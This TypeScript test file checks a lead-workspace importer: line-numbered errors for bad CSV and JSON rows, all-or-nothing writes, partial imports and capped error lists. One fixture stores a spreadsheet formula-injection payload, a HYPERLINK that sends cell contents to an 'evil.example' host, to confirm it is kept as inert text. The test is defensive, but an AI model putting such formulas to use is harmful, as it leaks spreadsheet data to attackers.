/** Bad rows: reported by line, and all or nothing unless a partial import is allowed. */
import { describe, expect, it } from 'vitest';
import { replaceWorkspace, workspaceHistory } from '../../store/workspace';
import { LOOPLINE_CSV_COLUMNS } from '../presets';
import { formatImportError, importWorkspace, MAX_REPORTED_ERRORS } from '.';
import { fixture, freshDb, options, SAMPLE, snapshot } from './test-helpers';

describe('importWorkspace: bad rows', () => {
  const BAD_ROWS = [
    { line: 4, reason: 'occurred_at: not a date ("31/02/2026")' },
    { line: 6, reason: 'email: not an email address ("maria.garcia@")' },
    {
      line: 8,
      reason: expect.stringMatching(
        /^kind: not a touchpoint kind \("webinar"\); expected one of email_sent, /,
      ),
    },
    {
      line: 10,
      reason: expect.stringMatching(
        /^broken CSV structure: unbalanced quote: .* \(the row runs on to line 11\)$/,
      ),
    },
    { line: 12, reason: 'broken CSV structure: expected 21 columns, found 13' },
    { line: 14, reason: 'mql_at: not a date ("2026-13-01")' },
  ];

  it('reports each bad row by line and writes nothing, leaving the workspaces as they were', async () => {
    const db = await freshDb();
    await replaceWorkspace(db, 'sample', SAMPLE);
    await importWorkspace(db, fixture('loopline.csv'), options('loopline-csv'));
    const before = await snapshot(db);
    for (const mode of ['replace', 'merge'] as const) {
      const result = await importWorkspace(db, fixture('bad-rows.csv'), options('loopline-csv', { mode }));
      expect(result.ok).toBe(false);
      expect(result.errors).toEqual(BAD_ROWS);
      expect(result.errorCount).toBe(6);
      expect(result.rows).toBe(14);
      expect(await snapshot(db)).toEqual(before);
    }
    expect(formatImportError({ line: 4, reason: 'occurred_at: not a date ("31/02/2026")' })).toBe(
      'line 4: occurred_at: not a date ("31/02/2026")',
    );
  });

  it('with allowPartial, imports the good rows only, still reporting the bad ones', async () => {
    const db = await freshDb();
    await replaceWorkspace(db, 'sample', SAMPLE);
    const result = await importWorkspace(
      db,
      fixture('bad-rows.csv'),
      options('loopline-csv', { allowPartial: true }),
    );
    expect(result).toMatchObject({
      ok: true,
      leads: 4,
      touchpoints: 8,
      campaigns: 3,
      rows: 14,
      errorCount: 6,
    });
    expect(result.errors).toEqual(BAD_ROWS);
    const stored = await snapshot(db);
    expect(
      stored.leads
        .filter((l) => l.workspace === 'imported')
        .map((l) => l.email)
        .sort(),
    ).toEqual([
      'leo.martins@cascata.example',
      'marcus.reid@tidewater.example',
      'olivia.brandt@kestrel.example',
      'yuki.sato@sakura-soft.example',
    ]);
    // The good rows of leads that also had bad ones are in; the bad rows are not.
    expect((await workspaceHistory(db, 'olivia.brandt@kestrel.example')).map((t) => t.kind)).toEqual([
      'email_open',
      'email_sent',
    ]);
    expect((await workspaceHistory(db, 'yuki.sato@sakura-soft.example')).map((t) => t.kind)).toEqual([
      'email_click',
    ]);
    // A formula in a note is data: stored as the text it is (exports neutralise it).
    const marcus = await workspaceHistory(db, 'marcus.reid@tidewater.example');
    expect(marcus.find((t) => t.kind === 'form_submit')?.detail).toBe(
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    );
    // The sample workspace is untouched.
    expect(stored.leads.filter((l) => l.workspace === 'sample')).toHaveLength(1);
    expect(stored.touchpoints.filter((t) => t.workspace === 'sample')).toHaveLength(1);
  });

  it('caps the error list and counts the rest', async () => {
    const header = LOOPLINE_CSV_COLUMNS.join(',');
    const row = (i: number) =>
      LOOPLINE_CSV_COLUMNS.map((c) =>
        c === 'email' ? `p${i}@x.example` : c === 'occurred_at' ? 'soon' : c === 'kind' ? 'page_view' : '',
      ).join(',');
    const text = [header, ...Array.from({ length: 1200 }, (_, i) => row(i))].join('\n');
    const db = await freshDb();
    const result = await importWorkspace(db, new Blob([text]), options('loopline-csv'));
    expect(result.ok).toBe(false);
    expect(result.errorCount).toBe(1200);
    expect(result.errors).toHaveLength(MAX_REPORTED_ERRORS);
    expect(result.errors[0]).toEqual({ line: 2, reason: 'occurred_at: not a date ("soon")' });
    expect(result.errors.at(-1)?.line).toBe(MAX_REPORTED_ERRORS + 1);
  });

  it.each([
    [
      'a file without the columns the preset needs',
      'loopline.csv',
      'marketo-activity',
      {
        line: 1,
        reason:
          'missing columns "Activity Date", "Activity Type", which the Marketo activity log export preset needs',
      },
    ],
    ['an empty file', '', 'loopline-csv', { line: 1, reason: 'the file is empty' }],
    [
      'a header without rows',
      'email,name\n',
      'loopline-csv',
      { line: 0, reason: 'nothing to import: the file has no data rows' },
    ],
    [
      'a CSV file as JSON',
      'loopline.csv',
      'loopline-json',
      { line: 1, reason: 'not a Loopline workspace file: it does not start with a JSON object' },
    ],
    [
      'a JSON file as CSV',
      'loopline-workspace.json',
      'loopline-csv',
      {
        line: 1,
        reason: 'this is a JSON file, not CSV: import it with the Loopline workspace (JSON) preset',
      },
    ],
    [
      'a newer JSON version',
      '{"format":"loopline-workspace","version":2,"leads":[]}',
      'loopline-json',
      { line: 1, reason: 'the file is version 2, newer than this Loopline reads (1): update the extension' },
    ],
    [
      'another JSON format',
      '{"format":"something-else","version":1}',
      'loopline-json',
      { line: 1, reason: 'not a Loopline workspace file (format "something-else")' },
    ],
    [
      'a JSON file without a format',
      '{"leads":[]}',
      'loopline-json',
      { line: 1, reason: 'not a Loopline workspace file: no "format": "loopline-workspace"' },
    ],
    [
      'a truncated JSON file',
      '{"format":"loopline-workspace","version":1,\n"leads":[\n{"email":"a@x.example"},\n{"email":"b@x',
      'loopline-json',
      { line: 4, reason: 'the file ends inside the "leads" list: it is cut short' },
    ],
  ] as const)('rejects %s as a whole and writes nothing', async (_what, source, preset, error) => {
    const db = await freshDb();
    await importWorkspace(db, fixture('hubspot-contacts.csv'), options('hubspot-contacts'));
    const before = await snapshot(db);
    const file = source.endsWith('.csv') || source.endsWith('.json') ? fixture(source) : new Blob([source]);
    const result = await importWorkspace(db, file, options(preset));
    expect(result.ok).toBe(false);
    expect(result.errors).toEqual([error]);
    expect(await snapshot(db)).toEqual(before);
  });

  it('reports bad JSON records by their line and path', async () => {
    const text = [
      '{"format":"loopline-workspace","version":1,',
      '"leads":[',
      '{"email":"good@x.example","refs":[]},',
      '{"email":"not an email","refs":[]}',
      '],',
      '"touchpoints":[',
      '{"id":"t1","leadEmail":"good@x.example","occurredAt":"2026-02-30T10:00:00Z","kind":"page_view","source":"local"},',
      '{"id":"t2","leadEmail":"good@x.example","occurredAt":"2026-02-03T10:00:00Z","kind":"teleport","source":"local"},',
      '{"id":"t3", oops}',
      ']}',
    ].join('\n');
    const db = await freshDb();
    const result = await importWorkspace(db, new Blob([text]), options('loopline-json'));
    expect(result.ok).toBe(false);
    expect(result.errors.map((e) => [e.line, e.reason.replace(/:.*/, '')])).toEqual([
      [4, 'leads[1].email'],
      [7, 'touchpoints[0].occurredAt'],
      [8, 'touchpoints[1].kind'],
      [9, 'touchpoints[2]'],
    ]);
    expect(result.errors[0]?.reason).toBe('leads[1].email: not an email address ("not an email")');
    expect(result.errors[3]?.reason).toMatch(/^touchpoints\[2\]: not valid JSON/);
    expect(await snapshot(db)).toEqual({ leads: [], touchpoints: [], campaigns: [] });
  });
});
